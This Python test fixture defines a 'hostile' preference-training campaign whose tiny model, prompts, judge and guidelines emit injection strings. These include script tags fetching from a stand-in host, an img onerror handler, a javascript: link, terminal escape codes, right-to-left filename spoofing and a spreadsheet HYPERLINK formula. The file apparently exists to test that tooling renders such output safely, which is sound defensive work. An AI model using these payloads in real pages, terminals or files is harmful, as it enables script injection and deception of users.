"""A campaign whose prompts, completions, reasons and comments mean harm.

Its policy is a tiny model whose words are themselves the harm: whatever it samples has scripts,
escape sequences, right-to-left marks, NUL bytes or a line of 100 kB in it.
"""

import json
from pathlib import Path
from typing import Any

from small_campaign import CONFIG, Campaign

HARM = (
    "</script><script>window.harmed=1;fetch('http://192.0.2.1/script')</script>",
    "<img\tsrc=http://192.0.2.1/img.png\tonerror=window.harmed=2>",
    "![x](http://192.0.2.1/markdown.png)[click](javascript:window.harmed=3)",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07\x9b2J",
    "\u202egnp.exe\u2066\u200fmark\u2028line",
    "nul\x00byte",
    "A" * 100_000,
    "{{7*7}}[bold]rich[/bold][link=http://192.0.2.1/rich]x[/link]",
    "=HYPERLINK('http://192.0.2.1/sheet')",
)
"""Words without a space; 192.0.2.1 belongs to nobody."""

MODEL = """
import json
from pathlib import Path

HARM = json.loads(Path(__file__).with_name("harm.json").read_text())
SPECIAL = ["<pad>", "<eos>", "<unk>"]


def build(out_dir, seed):
    import torch
    from tokenizers import Tokenizer, decoders
    from tokenizers.models import WordLevel
    from tokenizers.pre_tokenizers import WhitespaceSplit
    from transformers import LlamaConfig, LlamaForCausalLM, PreTrainedTokenizerFast

    words = [*SPECIAL, *HARM, "good", "bad"]
    known = Tokenizer(WordLevel({word: n for n, word in enumerate(words)}, unk_token="<unk>"))
    known.pre_tokenizer = WhitespaceSplit()
    tokenizer = PreTrainedTokenizerFast(
        tokenizer_object=known, pad_token="<pad>", eos_token="<eos>", unk_token="<unk>",
        clean_up_tokenization_spaces=False,
    )
    torch.manual_seed(seed)
    model = LlamaForCausalLM(LlamaConfig(
        vocab_size=len(words), hidden_size=32, intermediate_size=64, num_hidden_layers=1,
        num_attention_heads=4, num_key_value_heads=4, max_position_embeddings=128,
        pad_token_id=0, eos_token_id=1, bos_token_id=None, tie_word_embeddings=True,
    ))
    model.save_pretrained(out_dir)
    tokenizer.save_pretrained(out_dir)
"""

JUDGE = """
from dpo_core.records import Score

def score(completions):
    name = "<b>\\x1b[1m\\x9b1m\\u202eharm"
    return [
        Score(-float(c.tokens), "because " + c.text[:200], {name: (c.finished, 1)})
        for c in completions
    ]
"""

PROMPTS = 90


def prompt(number: int) -> str:
    return f"{HARM[number % len(HARM)]} prompt {number}"


class Hostile(Campaign):
    """People judge its pairs, a rule with hostile reasons its held-out answers."""

    access: Any = None

    @classmethod
    def create(cls, folder: Path) -> "Hostile":
        rows = (json.dumps({"prompt": prompt(n), "tag": HARM[n % 3]}) for n in range(PROMPTS))
        (folder / "prompts.jsonl").write_text("\n".join(rows) + "\n", encoding="utf-8")
        (folder / "harm.json").write_text(json.dumps(HARM), encoding="utf-8")
        (folder / "hostile_model.py").write_text(MODEL, encoding="utf-8")
        (folder / "small_judge.py").write_text(JUDGE, encoding="utf-8")
        config: dict[str, Any] = {
            **CONFIG,
            "name": "hostile",
            "rounds": 1,
            "policy": {"build": "hostile_model:build"},
            "prompts": {"path": "prompts.jsonl", "per_round": 9},
            "sampling": {"engine": "transformers", "max_tokens": 6, "max_model_len": 64},
            "judge": {"kind": "human"},
            "evaluation_judge": CONFIG["judge"],
            "pairs": {"strategy": "random", "truncated": "keep"},
            "people": {"guidelines": HARM[0]},
            "evaluation": {"gate_prompts": 4, "test_prompts": 5, "bootstrap_resamples": 100},
        }
        del config["sft"]
        (folder / "small.yaml").write_text(json.dumps(config), encoding="utf-8")
        return cls(folder)

    def environment(self) -> dict[str, str]:
        named = {"ARGILLA_API_URL": self.access.url, "ARGILLA_API_KEY": self.access.api_key}
        return {**super().environment(), **named}
